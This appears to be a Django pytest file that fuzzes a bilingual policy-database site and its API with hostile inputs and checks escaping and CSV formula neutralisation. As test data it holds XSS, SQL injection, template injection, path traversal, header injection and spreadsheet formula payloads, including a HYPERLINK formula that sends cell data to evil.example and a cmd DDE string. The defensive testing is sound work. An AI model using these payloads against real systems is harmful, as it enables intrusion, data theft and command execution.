"""Hostile input. Whatever a browser, a script or an attacker puts in the address, the site
answers with its normal page or a 4xx, never a server error; and whatever a curator types into a
record is shown as text, never run, on the public pages, in the admin and in the CSV export.

The pages and their query parameters are found, not listed: every page under /zh/ and /en/ from
the URL configuration (tests/site_map.py), and every parameter the pages' own forms and links
send. The API's parameters come from its OpenAPI schema; tests/test_api_schema.py also runs
schemathesis over that whole schema.
"""

import csv
import io
from html.parser import HTMLParser
from urllib.parse import quote

import pytest
from django.contrib.auth.models import User
from django.core.cache import caches
from django.db.models import F
from django.test import Client
from drf_spectacular.generators import SchemaGenerator

from policykb.models import FundingAward, Organization, Program, Source
from policykb.services import cited_record_save
from roadmaps.models import Project, ProjectPartner
from tests.site_map import page_routes, page_urls, query_parameters

pytestmark = pytest.mark.django_db

# --- what an attacker sends --------------------------------------------------------------------

HUGE = "x" * 100_000  # 100 kB in one parameter
SCRIPT = "<script>alert(1)</script>"
ATTRIBUTE = '"><img src=x onerror=alert(1)>'

# Every value, in every parameter a page or an API list reads.
VALUES = {
    "empty": "",
    "blank": "   ",
    "zero": "0",
    "negative": "-1",
    "fraction": "1.5",
    "exponent": "1e309",
    "not a number": "NaN",
    "40 digits": "9" * 40,
    "int64 overflow": "9223372036854775808",
    "impossible date": "2020-02-30",
    "sql quote": "' OR '1'='1",
    "sql statement": "1; DROP TABLE policykb_source; --",
    "sql union": "1 UNION SELECT username, password FROM auth_user --",
    "template": "{{ 7|add:7 }}{% debug %}${7*7}",
    "script": SCRIPT,
    "attribute": ATTRIBUTE,
    "nul": "a\x00b",
    "percent nul": "%00",
    "rtl override": "\u202egnp.exe",
    "zero width": "li\u200bft",
    "emoji": "🏭💥🇺🇸",
    "path traversal": "../../../etc/passwd",
    "json": '{"$ne": null}',
    "header injection": "a\r\nSet-Cookie: admin=1",
    "200 slugs": ",".join(["lift"] * 200),
    "100 kB": HUGE,
    "100 kB of Chinese": "增" * 34_000,
}
# On every page, every parameter at once: a short list of the worst of the above.
EVERY_PAGE_VALUES = [
    "",
    "-1",
    "9" * 40,
    "' OR '1'='1",
    "{{ 7|add:7 }}{% debug %}",
    SCRIPT + ATTRIBUTE,
    "a\x00b",
    "\u202eli\u200bft🏭",
    HUGE,
]
# Sent as they are, not encoded: broken percent-escapes, invalid UTF-8, odd separators,
# repeated and bracketed names (each pair is parsed on its own, so one request carries many).
RAW_QUERIES = [
    "q=%ff%fe%fd&kind=%ed%a0%80&sort=%&page=%zz&=&&=&&lang&;;;&%00=%00",  # %ed%a0%80: a surrogate
    "page=1&page=2&page=x&sort=number&sort=-members&q[]=a&q[$ne]=b&kind[0]=award",
    "q=" + "%F0%9F%8F%AD" * 5000,  # 20 000 emoji, percent-encoded
]
# Parameters any page might be sent (the pages' own come from their forms and links).
COMMON_PARAMETERS = ["page", "page_size", "sort", "ordering", "q", "kind", "lang", "format"]
UNKNOWN_PARAMETERS = ["utm_source", "__proto__", "q[$ne]", "id[]", "p" * 300, "\u202eevil", SCRIPT]


# --- what the site may answer ------------------------------------------------------------------


class Markup(HTMLParser):
    """A page's scripts, event-handler attributes and text, as a browser would parse them."""

    def __init__(self):
        super().__init__()
        self.scripts = []
        self.handlers = []
        self.text = []
        self.attribute_values = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        if tag == "script":
            self._in_script = True
            self.scripts.append("")
        for name, value in attrs:
            if name.startswith("on"):
                self.handlers.append(f"<{tag} {name}={value!r}>")
            if value:
                self.attribute_values.append(value)

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.scripts[-1] += data
        else:
            self.text.append(data)


def markup(response):
    parser = Markup()
    parser.feed(response.content.decode())
    parser.close()
    return parser


def problem(response):
    """Why an answer is not acceptable, or None: a 5xx, or a 200 that is not a whole, safe page."""
    status = response.status_code
    if status >= 500:
        return f"server error {status}"
    if 400 <= status < 500:
        return None
    if status != 200:
        return f"unexpected status {status}"
    content_type = response.get("Content-Type", "")
    if not content_type.startswith("text/html"):
        return None  # JSON or CSV: nothing a browser would run
    html = response.content.decode()
    if not html.rstrip().endswith("</html>"):
        return "a page cut short"
    page = markup(response)
    if any("alert(" in script for script in page.scripts) or page.handlers:
        return f"an injected script or handler runs: {page.handlers or 'script'}"
    if SCRIPT in html or ATTRIBUTE in html:
        return "the value is reflected unescaped"
    return None


def sweep(client, path, queries):
    """GET `path` with every query (a dict, or a raw query string); the failures found."""
    failures = []
    for query in queries:
        if isinstance(query, str):
            response = client.get(f"{path}?{query}")
            shown = query[:80]
        else:
            response = client.get(path, query)
            shown = {name[:20]: value[:30] for name, value in query.items()}
        why = problem(response)
        if why:
            failures.append(f"{path} {shown}: {why}")
    return failures


@pytest.fixture(autouse=True)
def caches_emptied_afterwards():
    # Thousands of requests fill the throttle's counters and any response cache: leave neither
    # to the tests that run next (they would meet a 429, or a page cached from here).
    yield
    for cache in caches.all():
        cache.clear()


@pytest.fixture
def browser_client():
    # Errors come back as 500 responses, so a sweep reports every failure, not only the first.
    return Client(raise_request_exception=False, HTTP_ACCEPT="text/html")


@pytest.fixture
def api_client(settings):
    # The sweep is hundreds of requests; the anonymous throttle would answer most with a 429.
    settings.REST_FRAMEWORK = {
        **settings.REST_FRAMEWORK,
        "DEFAULT_THROTTLE_RATES": {"anon": "1000000/minute"},
    }
    return Client(raise_request_exception=False)


# --- the pages ---------------------------------------------------------------------------------

PAGE_NAMES = [name for name, _ in page_routes()]
_site = {}


def site():
    """{url name: (path, the query parameters that page is sent)}, found by visiting every page
    in both languages and reading its GET forms and links (computed once per module)."""
    if not _site:
        client = Client()
        paths = {}
        sent = {}
        for language in ("en", "zh-hans"):
            for name, path in page_urls(language).items():
                paths.setdefault(name, path)
                response = client.get(path)
                assert response.status_code == 200, path
                for target, names in query_parameters(path, response.content.decode()).items():
                    sent.setdefault(target, set()).update(names)
        for name, path in paths.items():
            own = sent.get(path, set())
            zh = page_urls("zh-hans")[name]
            own |= sent.get(zh, set())
            _site[name] = (path, sorted(own))
    return _site


def test_the_sweep_finds_every_kind_of_page_and_its_parameters():
    pages = site()
    assert len(pages) >= 30
    assert set(pages["policykb:funding-list"][1]) >= {
        "program",
        "agency",
        "year",
        "recipient",
        "institute",
        "kind",
    }
    assert "q" in pages["policykb:search"][1]
    assert "sort" in pages["institutes:institute-list"][1]


@pytest.mark.parametrize("name", PAGE_NAMES)
def test_a_page_sent_hostile_parameters_answers_normally_or_with_a_4xx(name, browser_client):
    path, own = site()[name]
    every = own + COMMON_PARAMETERS + UNKNOWN_PARAMETERS
    queries = [dict.fromkeys(every, value) for value in EVERY_PAGE_VALUES]
    queries += RAW_QUERIES
    # The page's own parameters (its form's fields are each checked whatever the others hold):
    # every hostile value.
    if own:
        queries += [dict.fromkeys(own, value) for value in VALUES.values()]
    failures = sweep(browser_client, path, queries)
    # The other language's page is the same view under another URL: the worst values again.
    zh_path = page_urls("zh-hans")[name]
    worst = [dict.fromkeys(every, value) for value in (HUGE, "a\x00b", SCRIPT + ATTRIBUTE)]
    failures += sweep(browser_client, zh_path, worst)
    assert not failures, "\n".join(failures)


def test_an_unknown_record_or_a_hostile_slug_is_a_not_found_page(browser_client):
    failures = []
    for name, pattern in page_routes():
        if "slug" not in pattern.pattern.converters:
            continue
        path = site()[name][0]
        parent = path.rstrip("/").rsplit("/", 1)[0]
        for slug in ("no-such-record", "a" * 5000, quote(SCRIPT, safe=""), "%00", "%E2%80%AE"):
            response = browser_client.get(f"{parent}/{slug}/")
            if response.status_code != 404:
                failures.append(f"{parent}/{slug[:20]}/: {response.status_code}")
            elif SCRIPT in response.content.decode():
                failures.append(f"{parent}/{slug[:20]}/: reflected unescaped")
    assert not failures, "\n".join(failures)


def test_too_many_parameters_are_refused(browser_client, api_client):
    # Django parses at most DATA_UPLOAD_MAX_NUMBER_FIELDS (1000): more is a 400, not a slow page.
    query = "&".join(f"p{i}=1" for i in range(2000))
    assert browser_client.get(f"/en/funding/?{query}").status_code == 400
    assert api_client.get(f"/api/funding/?{query}").status_code == 400


# --- the API -----------------------------------------------------------------------------------

_operations = {}


def api_operations():
    """{path: [parameter names]} of every GET operation in the OpenAPI schema."""
    if not _operations:
        schema = SchemaGenerator().get_schema(request=None, public=True)
        for path, item in schema["paths"].items():
            if "get" in item:
                names = [p["name"] for p in item["get"].get("parameters", []) if p["in"] == "query"]
                _operations[path] = names
    return _operations


def test_every_api_list_is_sent_hostile_parameters(api_client):
    failures = []
    for path, names in api_operations().items():
        if "{" in path:
            continue
        every = names + UNKNOWN_PARAMETERS
        queries = [dict.fromkeys(every, value) for value in EVERY_PAGE_VALUES]
        # Each documented parameter alone too: the strict filters stop at the first bad one.
        queries += [{name: value} for name in names for value in EVERY_PAGE_VALUES]
        failures += sweep(api_client, path, queries + RAW_QUERIES)
    assert not failures, "\n".join(failures)


@pytest.mark.parametrize("path", ["/api/funding/", "/api/institutes/", "/api/funding/summary/"])
def test_an_api_list_answers_every_hostile_value_of_every_parameter(api_client, path):
    names = api_operations()[path]
    queries = [{name: value} for name in names for value in VALUES.values()]
    failures = sweep(api_client, path, queries)
    assert not failures, "\n".join(failures)


def test_an_api_record_with_a_hostile_slug_is_not_found(api_client):
    failures = []
    for path in api_operations():
        if not path.endswith("{slug}/"):
            continue
        for slug in ("no-such-record", "a" * 5000, quote(SCRIPT, safe=""), "%00", "'%20OR%201=1"):
            response = api_client.get(path.replace("{slug}", slug))
            if response.status_code != 404:
                failures.append(f"{path} {slug[:20]}: {response.status_code}")
    assert not failures, "\n".join(failures)


# --- a record a curator filled with hostile text -----------------------------------------------

NAME_EN = f"{SCRIPT} \"Quoted\" & 'single' \u202eevil\u200b Corp"
NAME_ZH = '<script>alert(2)</script>「引号」"双" \u202e反向\u200b零宽 公司'
TITLE_EN = f"{ATTRIBUTE} award \u202edrawa\u200b {{{{ 7|add:7 }}}}"
TITLE_ZH = "<b onmouseover=alert(3)>奖励</b> \u200b\u202e"
FORMULAS = {
    "amount_as_stated": "=1+2",
    "description_en": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "note_en": "@SUM(1+1)*cmd|' /C calc'!A0",
    "description_zh": "+1+1",
    "note_zh": "-2+3",
}


@pytest.fixture
def hostile():
    """An organisation and an award whose every name is hostile, linked so they show up on each
    other's pages, on their programme's page, in the funding explorer and on a project."""
    source = Source.objects.order_by("pk").first()
    organization = Organization.objects.create(
        slug="-hostile-corp",  # a slug may start with '-': a formula in a spreadsheet
        name_en=NAME_EN,
        name_zh=NAME_ZH,
        acronym="<i>X</i>\u202e",
        kind=Organization.Kind.COMPANY,
        aliases=f"{SCRIPT}\n=cmd|' /C calc'!A0",
    )
    program = Program.objects.get(slug="american-rescue-plan")
    award = cited_record_save(
        record=FundingAward(
            slug="hostile-award",
            kind=FundingAward.Kind.AWARD,
            title_en=TITLE_EN,
            title_zh=TITLE_ZH,
            program=program,
            recipient=organization,
            amount_usd=1,
            **FORMULAS,
        ),
        source=source,
        locator="=表 1",
    )
    project = Project.objects.order_by("pk").first()
    # First among the project's partners, so its slug starts the CSV's partners cell.
    ProjectPartner.objects.filter(project=project).update(order=F("order") + 1)
    ProjectPartner.objects.create(project=project, organization=organization, order=0)
    return {"organization": organization, "award": award, "program": program, "project": project}


def assert_shown_as_text(response, *names):
    """The names are on the page as text (escaped in the HTML, intact once parsed, RTL and
    zero-width characters included), and nothing of theirs runs."""
    assert response.status_code == 200, response.status_code
    html = response.content.decode()
    page = markup(response)
    assert not page.handlers, page.handlers
    assert not any("alert(" in script for script in page.scripts)
    for raw in (SCRIPT, ATTRIBUTE, "<script>alert(2)", "<b onmouseover", "<i>X</i>"):
        assert raw not in html
    shown = page.text + page.attribute_values
    for name in names:
        assert any(name in text for text in shown), f"{name!r} is not shown intact"
    return html


def test_hostile_names_are_escaped_on_the_public_pages(hostile):
    client = Client()
    org, award = hostile["organization"], hostile["award"]
    pages = {
        "/en/organisations/-hostile-corp/": [NAME_EN, TITLE_EN],
        "/zh/organisations/-hostile-corp/": [NAME_ZH, TITLE_ZH],
        "/en/organisations/": [NAME_EN],
        "/zh/organisations/": [NAME_ZH],
        "/en/funding/hostile-award/": [TITLE_EN, NAME_EN],
        "/zh/funding/hostile-award/": [TITLE_ZH, NAME_ZH],
        "/en/funding/": [TITLE_EN],
        "/en/funding/?recipient=-hostile-corp": [TITLE_EN],
        f"/en/programmes/{hostile['program'].slug}/": [TITLE_EN],
        hostile["project"].get_absolute_url(): [],
        "/en/search/?q=Quoted": [NAME_EN],
        "/zh/search/?q=引号": [NAME_ZH],
    }
    for path, names in pages.items():
        html = assert_shown_as_text(client.get(path), *names)
        if names:
            assert (
                "&lt;script&gt;alert(" in html
                or "&lt;b onmouseover" in html
                or ("&quot;&gt;&lt;img" in html)
            ), path
    assert org.get_absolute_url() and award.get_absolute_url()


def test_hostile_names_are_escaped_in_the_admin(hostile):
    admin = User.objects.create_superuser("hostile-admin", "admin@example.org", "x" * 20)
    client = Client()
    client.force_login(admin)
    org, award = hostile["organization"], hostile["award"]
    for language in ("en", "zh-hans"):
        client.cookies["django_language"] = language
        pages = {
            "/admin/policykb/organization/?q=Quoted": [NAME_EN],
            f"/admin/policykb/organization/{org.pk}/change/": [NAME_EN, NAME_ZH],
            f"/admin/policykb/organization/{org.pk}/history/": [],
            f"/admin/policykb/organization/{org.pk}/delete/": [],
            "/admin/policykb/fundingaward/?q=award": [],
            f"/admin/policykb/fundingaward/{award.pk}/change/": [TITLE_EN, TITLE_ZH],
            f"/admin/policykb/fundingaward/{award.pk}/history/": [],
            f"/admin/roadmaps/project/{hostile['project'].pk}/change/": [],
        }
        for path, names in pages.items():
            assert_shown_as_text(client.get(path), *names)


def read_csv(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    # Never sniffed as HTML, so the <script> in a cell stays text in a browser too.
    assert response["X-Content-Type-Options"] == "nosniff"
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_hostile_names_are_kept_and_formulas_neutralised_in_the_csv_export(hostile):
    client = Client()
    awards = read_csv(client.get("/api/funding/", {"format": "csv", "recipient": "-hostile-corp"}))
    award = next(row for row in awards if row["slug"] == "hostile-award")
    # The text is the curator's, exactly: CSV is data, HTML escaping would corrupt it.
    assert award["title_en"] == TITLE_EN
    assert award["title_zh"] == TITLE_ZH
    # A cell a spreadsheet would run as a formula starts with ' and shows as text.
    for field, value in FORMULAS.items():
        assert award[field] == "'" + value, field
    assert award["recipient"] == "'-hostile-corp"
    assert not award["sources"].startswith(("=", "+", "-", "@"))

    organizations = read_csv(
        client.get("/api/organizations/", {"format": "csv", "kind": "company"})
    )
    organization = next(row for row in organizations if row["slug"] == "'-hostile-corp")
    assert organization["name_en"] == NAME_EN
    assert organization["name_zh"] == NAME_ZH

    # A list of linked records in one cell, starting with the hostile slug.
    projects = read_csv(client.get("/api/roadmap-projects/", {"format": "csv"}))
    project = next(row for row in projects if row["slug"] == hostile["project"].slug)
    assert project["partners"].startswith("'-hostile-corp")

    # No cell anywhere in these exports starts with a formula character.
    for row in awards + organizations + projects:
        for field, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (field, cell)


def test_hostile_names_come_back_intact_from_the_json_api(hostile):
    client = Client()
    record = client.get("/api/organizations/-hostile-corp/", {"lang": "en"}).json()
    assert record["name_en"] == NAME_EN
    assert record["name"] == NAME_EN
    award = client.get("/api/funding/hostile-award/").json()
    assert award["title_zh"] == TITLE_ZH
    assert award["amount_as_stated"] == FORMULAS["amount_as_stated"]


def test_a_write_naming_a_record_with_hostile_text_is_a_400():
    # PostgreSQL refuses a NUL in a query: a lookup must not reach it (it was a 500 there).
    staff = User.objects.create_superuser("hostile-writer", "w@example.org", "x" * 20)
    client = Client()
    client.force_login(staff)
    award = {
        "slug": "hostile-write",
        "kind": "award",
        "title_zh": "奖励",
        "title_en": "Award",
        "amount_usd": 1,
        "amount_as_stated": "1 美元",
        "program": "american-rescue-plan",
        "sources": [{"source": Source.objects.order_by("pk").first().slug, "locator": "表 1"}],
    }
    for field, value in [
        ("program", "a\x00b"),
        ("recipient", "\x00"),
        ("sources", [{"source": "+<\x00", "locator": "表 1"}]),
        ("program", HUGE),
        ("recipient", SCRIPT),
    ]:
        response = client.post(
            "/api/funding/", {**award, field: value}, content_type="application/json"
        )
        assert response.status_code == 400, (field, response.status_code)
        assert field in response.json()
